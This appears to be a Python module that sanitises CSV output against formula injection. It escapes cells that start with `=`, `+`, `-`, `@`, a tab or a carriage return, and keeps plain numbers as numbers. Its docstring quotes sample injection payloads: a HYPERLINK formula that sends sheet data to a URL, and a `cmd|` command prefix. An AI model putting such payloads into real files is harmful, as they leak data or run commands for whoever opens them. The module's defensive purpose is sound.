"""Every CSV Baton writes goes through here, so no cell runs as a formula in a spreadsheet.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab or a
carriage return before one as nothing), so a lead named `=HYPERLINK("http://…?"&A1)` becomes a
link that sends the sheet's data away when the file is opened (CSV or formula injection). As
OWASP's guidance on CSV injection recommends, such a cell is written with a leading `'`, which
spreadsheets read as "this is text" and do not show; `csv.writer` already quotes cells holding the
delimiter or quotes, so no cell can start a new one mid-value.

A plain number stays a number: `-5`, `+3`, `-1.5e3` (the numbers Baton's reports write, and
values like them in an import's failed rows) cannot call a function, while `-2+3`, `+44 20 …`
and `-1+cmd|…` can, and are escaped.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """The text of a cell, with a leading `'` when a spreadsheet would run it as a formula."""
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return f"'{text}"
    return text


class SafeWriter:
    """`csv.writer` whose every cell, the header's included, goes through `safe_cell`."""

    def __init__(self, file: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: Any, **fmtparams: Any) -> SafeWriter:
    return SafeWriter(file, **fmtparams)
